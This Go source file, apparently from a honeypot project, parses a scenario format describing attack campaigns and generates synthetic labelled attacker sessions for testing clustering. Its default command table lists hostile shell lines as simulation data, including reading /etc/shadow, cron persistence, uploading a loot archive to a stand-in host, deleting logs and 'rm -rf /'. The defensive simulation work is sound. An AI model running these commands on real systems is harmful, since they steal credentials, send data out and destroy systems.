// Package synth reads the scenario DSL that describes attack campaigns
// (actors, kill-chain phases, tool signatures, target selectors, pauses and
// background noise) and generates a deterministic, truth-labelled corpus of
// synthetic attackers and sessions for a seed. Clustering code is scored by
// comparing its output on the corpus with the truth labels.
//
// # Documents
//
// A scenario file holds one of three shapes:
//
//   - a single campaign: {campaign: {...}}
//   - a corpus: {corpus: {campaigns: [{campaign: {...}}, ...], noise: {...}}}
//   - a composite: {include_fixtures: [file, ...], extra_noise_scanners: n},
//     which Load expands into one corpus whose noise is the sum of the
//     constituents' noise plus the extra scanners.
//
// A file next to a scenario, with the same base name and the suffix
// .expected.yaml, holds the metric floors the scenario must meet (see
// LoadFloors).
//
// # Extensions
//
// These keys go beyond the basic campaign format. Actors may carry
// identity: actors of one campaign with the same value are one operator,
// so they share a truth identity (an operator who works in sprints, or who
// changes roles). The noise block may carry stock_tools: groups of
// unrelated bots that all present the same stock fingerprint. ip_pool: tor
// gives every session its own source address, and success_rate makes
// exploitation and persistence sessions fail at random so that
// previous_success targeting stays on the last successful decky.
package synth

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"

	"go.yaml.in/yaml/v3"

	"github.com/decnet/decnet/internal/cluster/ukc"
)

// Limits that keep a mistyped scenario from generating an unbounded corpus.
const (
	MaxDurationDays   = 3650
	MaxSessionsPhase  = 100_000
	MaxRotationCount  = 10_000
	MaxScannerCount   = 1_000_000
	maxIncludeDepth   = 4
	maxDocumentBytes  = 4 << 20
	defaultJitterSecs = 60
	defaultDwellSecs  = 5
)

// IP pool kinds of an actor.
const (
	PoolSticky   = "sticky"
	PoolRotating = "rotating"
	PoolTor      = "tor"
)

// Document is a parsed and validated scenario.
type Document struct {
	// Path is the file the document came from, or the name given to Parse.
	Path      string
	Campaigns []Campaign
	Noise     Noise
	// Warnings lists problems that did not stop parsing, such as phases a
	// honeypot cannot observe and unknown keys.
	Warnings []Warning
}

// Campaign is one campaign block.
type Campaign struct {
	ID           string
	DurationDays int
	// PauseWindows are inclusive [start, end] day indexes with no sessions.
	PauseWindows [][2]int
	Actors       []Actor
	Phases       []Phase
	// Doc is the document the campaign was declared in.
	Doc string
}

// Actor is one operator row source of a campaign.
type Actor struct {
	ID string
	// Identity groups actors of one campaign into one truth identity. Empty
	// means the actor is its own identity.
	Identity      string
	ASN           int64
	IPPool        string
	RotationCount int
	RotationASNs  []int64
	JA3           string
	HASSH         string
	HoursActive   []int
	JitterSeconds int
	// ActiveDays restricts the actor to these day indexes; nil means every
	// day that is not paused.
	ActiveDays []int
	Role       string
}

// Phase is one step of a campaign, walked in declared order.
type Phase struct {
	Name  ukc.Phase
	Actor string
	// Commands are the shell commands of each session. When the scenario
	// does not set tool_signature.commands, the phase's default list is used.
	Commands    []string
	Credentials []Credential
	C2Callback  string
	// PayloadSeed is hashed with SHA-256 to make the session payload hash.
	PayloadSeed string
	Count       int
	// PreviousSuccess targets the decky of the actor's last successful
	// exploitation or persistence session (decky-01 when there is none).
	PreviousSuccess bool
	DwellSeconds    float64
	// SuccessRate is the probability that an exploitation or persistence
	// session succeeds. Nil means always.
	SuccessRate *float64
}

// Noise is the background traffic of a corpus: scanners with no shared
// signal, and bots that share a stock tool's fingerprint.
type Noise struct {
	ScannerCount int
	StockTools   []StockTool
}

// StockTool is a group of unrelated bots that all use the same stock client
// and so present the same fingerprints. Each bot is a truth singleton.
type StockTool struct {
	Name  string
	Count int
	JA3   string
	HASSH string
}

// Credential is one username and password pair.
type Credential struct {
	User string `json:"user"`
	Pass string `json:"pass"`
}

// defaultCommands are the commands a phase's sessions run when the scenario
// does not list any.
var defaultCommands = map[ukc.Phase][]string{
	ukc.Discovery:           {"whoami", "id", "uname -a", "ip route", "arp -a", "cat /etc/passwd"},
	ukc.CredentialAccess:    {"cat /etc/shadow", "find / -name id_rsa", "cat ~/.ssh/known_hosts"},
	ukc.Persistence:         {"crontab -l", "echo '* * * * * /tmp/.x' | crontab -", "cat ~/.ssh/authorized_keys"},
	ukc.LateralMovement:     {"ssh -i /tmp/.k root@10.0.0.5", "scp /tmp/.x root@10.0.0.5:/tmp/"},
	ukc.Collection:          {"tar czf /tmp/loot.tgz /var/lib/mysql /home"},
	ukc.Exfiltration:        {"curl -T /tmp/loot.tgz https://drop.example/"},
	ukc.Execution:           {"./payload"},
	ukc.PrivilegeEscalation: {"sudo -l", "find / -perm -u=s 2>/dev/null"},
	ukc.DefenseEvasion:      {"history -c", "rm -rf /var/log/wtmp"},
	ukc.Impact:              {"rm -rf /"},
}

// DefaultCommands returns the commands used for phase p when a scenario
// lists none. Delivery, exploitation, command_and_control, pivoting and
// objectives have none.
func DefaultCommands(p ukc.Phase) []string {
	return slices.Clone(defaultCommands[p])
}

// Load reads and validates the scenario file at path, expanding
// include_fixtures relative to the file's directory.
func Load(path string) (*Document, error) {
	return load(path, 0, nil)
}

func load(path string, depth int, stack []string) (*Document, error) {
	abs, err := filepath.Abs(path)
	if err != nil {
		return nil, fmt.Errorf("load scenario %s: %w", path, err)
	}
	if slices.Contains(stack, abs) {
		return nil, &ValidationError{Doc: path, Path: "include_fixtures", Msg: "includes itself"}
	}
	if depth > maxIncludeDepth {
		return nil, &ValidationError{Doc: path, Path: "include_fixtures", Msg: fmt.Sprintf("nested deeper than %d levels", maxIncludeDepth)}
	}

	info, err := os.Stat(path)
	if err != nil {
		return nil, fmt.Errorf("load scenario %s: %w", path, err)
	}
	if info.Size() > maxDocumentBytes {
		return nil, &ValidationError{Doc: path, Msg: fmt.Sprintf("file is %d bytes, max %d", info.Size(), maxDocumentBytes)}
	}
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("load scenario %s: %w", path, err)
	}

	d := &decoder{doc: path}
	root, err := d.root(data)
	if err != nil {
		return nil, err
	}
	if root.has("include_fixtures") {
		return d.composite(root, filepath.Dir(path), depth, append(stack, abs))
	}
	return d.document(root)
}

// Parse validates one scenario document held in memory. name labels errors
// and warnings. A composite document cannot be parsed from memory, because
// its includes are files; use Load.
func Parse(data []byte, name string) (*Document, error) {
	if len(data) > maxDocumentBytes {
		return nil, &ValidationError{Doc: name, Msg: fmt.Sprintf("document is %d bytes, max %d", len(data), maxDocumentBytes)}
	}
	d := &decoder{doc: name}
	root, err := d.root(data)
	if err != nil {
		return nil, err
	}
	if root.has("include_fixtures") {
		return nil, d.fail(root.value["include_fixtures"], "include_fixtures", "composite documents must be read from a file with Load")
	}
	return d.document(root)
}

func (d *decoder) root(data []byte) (*fields, error) {
	var n yaml.Node
	if err := yaml.Unmarshal(data, &n); err != nil {
		return nil, &ValidationError{Doc: d.doc, Msg: fmt.Sprintf("not valid YAML: %v", err)}
	}
	top := resolve(&n)
	if top == nil || top.Kind != yaml.MappingNode {
		return nil, d.fail(top, "", "document must be a mapping, got %s", kindName(top))
	}
	return d.mapping(top, "", "campaign", "corpus", "include_fixtures", "extra_noise_scanners")
}

func (d *decoder) document(root *fields) (*Document, error) {
	doc := &Document{Path: d.doc}
	switch {
	case root.has("corpus"):
		if root.has("campaign") {
			return nil, d.fail(root.node, "", "use either 'campaign' or 'corpus' at the top level, not both")
		}
		if err := d.corpus(root.value["corpus"], doc); err != nil {
			return nil, err
		}
	case root.has("campaign"):
		c, err := d.campaign(root, "campaign")
		if err != nil {
			return nil, err
		}
		doc.Campaigns = append(doc.Campaigns, c)
	default:
		return nil, d.fail(root.node, "", "missing top-level 'campaign' key")
	}

	if err := d.uniqueCampaigns(doc); err != nil {
		return nil, err
	}
	doc.Warnings = d.warnings
	return doc, nil
}

func (d *decoder) uniqueCampaigns(doc *Document) error {
	seen := map[string]bool{}
	for _, c := range doc.Campaigns {
		if seen[c.ID] {
			return &ValidationError{Doc: d.doc, Path: "corpus.campaigns", Msg: fmt.Sprintf("campaign id %q is declared twice", c.ID)}
		}
		seen[c.ID] = true
	}
	return nil
}

func (d *decoder) corpus(n *yaml.Node, doc *Document) error {
	f, err := d.mapping(n, "corpus", "campaigns", "noise")
	if err != nil {
		return err
	}
	items, err := d.list(f, "campaigns")
	if err != nil {
		return err
	}
	for i, it := range items {
		path := index("corpus.campaigns", i)
		wrapper, err := d.mapping(it, path, "campaign")
		if err != nil {
			return err
		}
		if !wrapper.has("campaign") {
			return d.fail(it, path, "missing top-level 'campaign' key")
		}
		c, err := d.campaign(wrapper, join(path, "campaign"))
		if err != nil {
			return err
		}
		doc.Campaigns = append(doc.Campaigns, c)
	}

	if f.present("noise") {
		noise, err := d.noise(f.value["noise"], "corpus.noise")
		if err != nil {
			return err
		}
		doc.Noise = noise
	}
	return nil
}

func (d *decoder) noise(n *yaml.Node, path string) (Noise, error) {
	f, err := d.mapping(n, path, "scanner_count", "stock_tools")
	if err != nil {
		return Noise{}, err
	}
	count, err := d.integer(f, "scanner_count", 0, 0, MaxScannerCount)
	if err != nil {
		return Noise{}, err
	}
	out := Noise{ScannerCount: int(count)}

	tools, err := d.list(f, "stock_tools")
	if err != nil {
		return Noise{}, err
	}
	names := map[string]bool{}
	for i, it := range tools {
		tp := index(join(path, "stock_tools"), i)
		tf, err := d.mapping(it, tp, "name", "count", "ja3", "hassh")
		if err != nil {
			return Noise{}, err
		}
		var tool StockTool
		if tool.Name, err = d.str(tf, "name"); err != nil {
			return Noise{}, err
		}
		if tool.Name == "" {
			return Noise{}, d.fail(it, tp, "missing required key: name")
		}
		if names[tool.Name] {
			return Noise{}, d.fail(it, join(tp, "name"), "stock tool %q is declared twice", tool.Name)
		}
		names[tool.Name] = true
		c, err := d.integer(tf, "count", 0, 0, MaxScannerCount)
		if err != nil {
			return Noise{}, err
		}
		tool.Count = int(c)
		if tool.JA3, err = d.str(tf, "ja3"); err != nil {
			return Noise{}, err
		}
		if tool.HASSH, err = d.str(tf, "hassh"); err != nil {
			return Noise{}, err
		}
		if tool.JA3 == "" && tool.HASSH == "" {
			return Noise{}, d.fail(it, tp, "a stock tool needs a ja3 or a hassh value")
		}
		out.StockTools = append(out.StockTools, tool)
	}
	return out, nil
}

// composite expands include_fixtures into one corpus document.
func (d *decoder) composite(root *fields, dir string, depth int, stack []string) (*Document, error) {
	if root.has("campaign") || root.has("corpus") {
		return nil, d.fail(root.node, "", "a composite document cannot also declare 'campaign' or 'corpus'")
	}
	files, err := d.strList(root, "include_fixtures")
	if err != nil {
		return nil, err
	}
	if len(files) == 0 {
		return nil, d.fail(root.value["include_fixtures"], "include_fixtures", "must list at least one file")
	}
	extra, err := d.integer(root, "extra_noise_scanners", 0, 0, MaxScannerCount)
	if err != nil {
		return nil, err
	}

	doc := &Document{Path: d.doc}
	for _, name := range files {
		path := name
		if !filepath.IsAbs(path) {
			path = filepath.Join(dir, name)
		}
		sub, err := load(path, depth+1, stack)
		if err != nil {
			return nil, fmt.Errorf("%s: include_fixtures: %w", d.doc, err)
		}
		doc.Campaigns = append(doc.Campaigns, sub.Campaigns...)
		doc.Noise.ScannerCount += sub.Noise.ScannerCount
		doc.Noise.StockTools = append(doc.Noise.StockTools, sub.Noise.StockTools...)
		doc.Warnings = append(doc.Warnings, sub.Warnings...)
	}
	doc.Noise.ScannerCount += int(extra)
	if doc.Noise.ScannerCount > MaxScannerCount {
		return nil, d.fail(root.node, "extra_noise_scanners", "total scanner count %d exceeds %d", doc.Noise.ScannerCount, MaxScannerCount)
	}

	if err := d.uniqueCampaigns(doc); err != nil {
		return nil, err
	}
	doc.Warnings = append(doc.Warnings, d.warnings...)
	return doc, nil
}
